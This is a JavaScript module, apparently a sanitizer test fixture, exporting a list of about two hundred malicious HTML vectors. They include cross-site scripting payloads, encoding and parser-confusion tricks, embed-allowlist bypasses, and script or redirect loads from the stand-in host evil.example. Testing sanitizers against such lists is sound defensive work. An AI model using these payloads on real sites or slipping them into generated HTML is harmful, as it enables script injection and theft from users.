// Malicious HTML, one vector per line.
export const HTML = String.raw`
<script>X</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,X></script>
<script x>X</script x>
<scr<script>ipt>X</scr</script>ipt>
<<script>X//<</script>
<script>X
</script><script>X</script>
<img src=x onerror=X>
<img src=x onerror="X">
<img src=x onerror='X'>
<img/src=x/onerror=X>
<img src=x OnErRoR=X>
<img src="x" onerror = X >
<img src=x:X onerror=eval(src)>
<img """><script>X</script>">
<img src='x'onerror=X>
<img src=1 href=1 onerror="javascript:X"></img>
<img src=javascript:X>
<img src="jav&#x09;ascript:X">
<img src="jav&#x0A;ascript:X">
<img src=" &#14; javascript:X">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;X>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img srcset="javascript:X 1x, data:text/html,X 2x">
<img src=x srcset="x 1x" sizes="100vw" onload=X>
<img dynsrc="javascript:X">
<img lowsrc="javascript:X">
<img src="x" style="background:url(javascript:X)">
<img src="x" style="xss:expression(X)">
<img longdesc="javascript:X" usemap="#x">
<body onload=X>
<body background="javascript:X">
<svg onload=X>
<svg/onload=X>
<svg><script>X</script></svg>
<svg><script href="data:,X" /></svg>
<svg><a xlink:href="javascript:X"><text x="20" y="20">XSS</text></a></svg>
<svg><a><animate attributeName=href values=javascript:X /><text x=20 y=20>X</text></a></svg>
<svg><set attributeName="onmouseover" to="X">
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='X'/></svg>#x">
<svg><foreignObject><img src=x onerror=X></foreignObject></svg>
<svg><style><img src=x onerror=X></style></svg>
<svg><desc><![CDATA[</desc><script>X</script>]]></svg>
<svg><title><img src=x onerror=X></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=X>">
<svg><path d="M0 0" onclick=X></svg>
<svg><image href="javascript:X"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=X&gt;">
<math><mi//xlink:href="data:x,<script>X</script>">
<math href="javascript:X">CLICK</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:X">c</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=X></annotation-xml></math>
<math><mtext><img src=x onerror=X></mtext></math>
<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=X src>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>
<math><semantics><annotation encoding="text/html"><script>X</script></annotation></semantics></math>
<iframe src=javascript:X></iframe>
<iframe src="javascript:X">
<iframe srcdoc="<script>X</script>"></iframe>
<iframe src="data:text/html,<script>X</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<iframe src="//player.bilibili.com.evil.example/player.html"></iframe>
<iframe src="https://player.bilibili.com@evil.example/player.html"></iframe>
<iframe src="https://evil.example/player.bilibili.com/player.html"></iframe>
<iframe src="https://www.youtube.com/redirect?q=javascript:X"></iframe>
<iframe src="https://www.youtube.com/embed/../redirect?q=x"></iframe>
<iframe src="https://player.bilibili.com/player.html" onload=X srcdoc="<script>X</script>" sandbox=""></iframe>
<iframe><img src=x onerror=X></iframe>
<iframe src="https://player.vimeo.com/video/1"></iframe></iframe><script>X</script>
<object data="javascript:X"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object><param name=movie value=javascript:X></object>
<embed src="javascript:X">
<embed src="https://evil.example/x.swf" allowscriptaccess=always>
<applet code=x archive=//evil.example/x.jar></applet>
<a href="javascript:X">a</a>
<a href="JaVaScRiPt:X">a</a>
<a href=" javascript:X">a</a>
<a href="&#1;javascript:X">a</a>
<a href="java&#10;script:X">a</a>
<a href="java&Tab;script:X">a</a>
<a href="javascript&colon;X">a</a>
<a href="javascript&#58X">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;X">a</a>
<a href="java&NewLine;script:X">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="data:text/html,<script>X</script>">a</a>
<a href="livescript:X">a</a>
<a href="view-source:javascript:X">a</a>
<a href="blob:https://x/1">a</a>
<a href="file:///etc/passwd">a</a>
<a href="feed:javascript:X">a</a>
<a href="jar:javascript:X!/">a</a>
<a href="javascript://%0aX">a</a>
<a href="\x01javascript:X">a</a>
<a href="//evil.example" onclick=X>a</a>
<a href=# onfocus=X autofocus tabindex=1>a</a>
<a href="https://a.example" ping="javascript:X" download>a</a>
<a target="_top" rel="opener" href="https://a.example">a</a>
<a name="cookie" id="body">a</a>
<a id=x style="position:fixed;inset:0;z-index:9999" href="https://evil.example">a</a>
<a class="fixed inset-0" href="https://evil.example">a</a>
<form action="javascript:X"><input type=submit></form>
<form id=x></form><button form=x formaction="javascript:X">X</button>
<button onclick=X>a</button>
<input onfocus=X autofocus>
<input type=image src=x onerror=X>
<input type="text" value="X">
<input type="checkbox" onclick=X disabled>
<input type="radio" class="tab-radio" onchange=X name="document">
<select onfocus=X autofocus><option>x</select>
<textarea onfocus=X autofocus></textarea>
<textarea></textarea/><img src=x onerror=X></textarea>
<keygen onfocus=X autofocus>
<isindex action=javascript:X type=image>
<label for="x" onclick=X>a</label>
<video src=x onerror=X></video>
<video><source onerror=X></video>
<video poster=javascript:X></video>
<video src="https://evil.example/a.mp4" autoplay></video>
<audio src=x onerror=X autoplay>
<audio><source src="data:audio/mp3,X" onerror=X></audio>
<video><track src="javascript:X" oncuechange=X default></video>
<picture><source srcset="javascript:X"><img src=x onerror=X></picture>
<details open ontoggle=X><summary>s</summary></details>
<marquee onstart=X>a</marquee>
<marquee behavior=alternate onbounce=X>a</marquee>
<bgsound src="javascript:X">
<link rel=stylesheet href="javascript:X">
<link rel=import href="data:text/html,<script>X</script>">
<meta http-equiv=refresh content="0;url=javascript:X">
<meta http-equiv="Set-Cookie" content="a=b">
<base href="javascript:X//">
<base href="https://evil.example/">
<style>@import 'javascript:X';</style>
<style>*{background:url(javascript:X)}</style>
<style><img src="</style><img src=x onerror=X>">
<div style="background-image:url(javascript:X)">a</div>
<div style="width:expression(X)">a</div>
<div style="behavior:url(x.htc)">a</div>
<div style="-moz-binding:url(x.xml#x)">a</div>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">a</div>
<div style="color:red;background:url('//evil.example/x')">a</div>
<div style="color:red\3b position:fixed">a</div>
<div style="/*;*/position:absolute">a</div>
<div style='font-family:"</style><script>X</script>"'>a</div>
<span style="color:expression(X)">a</span>
<p style="content:'X'">a</p>
<table background="javascript:X"><tr><td background="javascript:X">a</td></tr></table>
<td onmouseover=X>a</td>
<div onmouseover=X>a</div>
<div onpointerrawupdate=X onbeforeinput=X>a</div>
<div onclick
=X>a</div>
<div/onclick=X>a</div>
<div id="a"onclick="X">a</div>
<p title="</p><script>X</script>">a</p>
<p title='"><img src=x onerror=X>'>a</p>
<noscript><p title="</noscript><img src=x onerror=X>">
<noembed><img title="</noembed><img src=x onerror=X>"></noembed>
<noframes><img title="</noframes><img src=x onerror=X>"></noframes>
<template><script>X</script></template>
<template shadowrootmode=open><script>X</script></template>
<title><img title="</title><img src=x onerror=X>"></title>
<xmp><img title="</xmp><img src=x onerror=X>"></xmp>
<plaintext><script>X</script>
<listing>&lt;img src=x onerror=X&gt;</listing>
<frameset onload=X><frame src=javascript:X></frameset>
<html onmouseover=X><head onclick=X>
<portal src="https://evil.example"></portal>
<dialog open onclose=X>a</dialog>
<slot name=x onslotchange=X></slot>
<xss onafterscriptexecute=X>a</xss>
<custom-element onclick=X>a</custom-element>
<ruby><rt onclick=X>a</rt></ruby>
<kbd accesskey=x onclick=X>a</kbd>
<blockquote cite="javascript:X">a</blockquote>
<q cite="javascript:X">a</q>
<del cite="javascript:X">a</del>
<!--><script>X</script>-->
<!--><img src=x onerror=X>-->
<!---><script>X</script>-->
<!--[if gte IE 4]><script>X</script><![endif]-->
<!-- --!><script>X</script> -->
<![CDATA[<script>X</script>]]>
<?xml version="1.0"?><script>X</script>
<?php X ?><img src=x onerror=X>
<!DOCTYPE x [<!ENTITY x "<script>X</script>">]><p>&x;
<%<!--'%><script>X</script -->
&lt;script&gt;X&lt;/script&gt;
&#60;script&#62;X&#60;/script&#62;
<div data-x="&quot; onclick=X x=&quot;">a</div>
<div title="a" "onclick"=X>a</div>
<p/><style/><img src=x onerror=X>
<pre class="mermaid" onclick=X>graph TD; click A "javascript:X"</pre>
<span class="katex"><span style="position:fixed;top:-999em">a</span></span>
<a href="https://a.example"><img src=x onerror=X></a>
<img src="https://a.example/a.png" crossorigin onload=X fetchpriority=high>
<p is="x-y" nonce="x" slot="y" part="z" popovertarget="w" contenteditable>a</p>
<img alt="&lt;script&gt;X&lt;/script&gt;" src=x>
<h1 onclick=X>a</h1>
<center onclick=X>a</center>
<font color="red;position:fixed" onclick=X>a</font>
<font color="expression(X)">a</font>
`
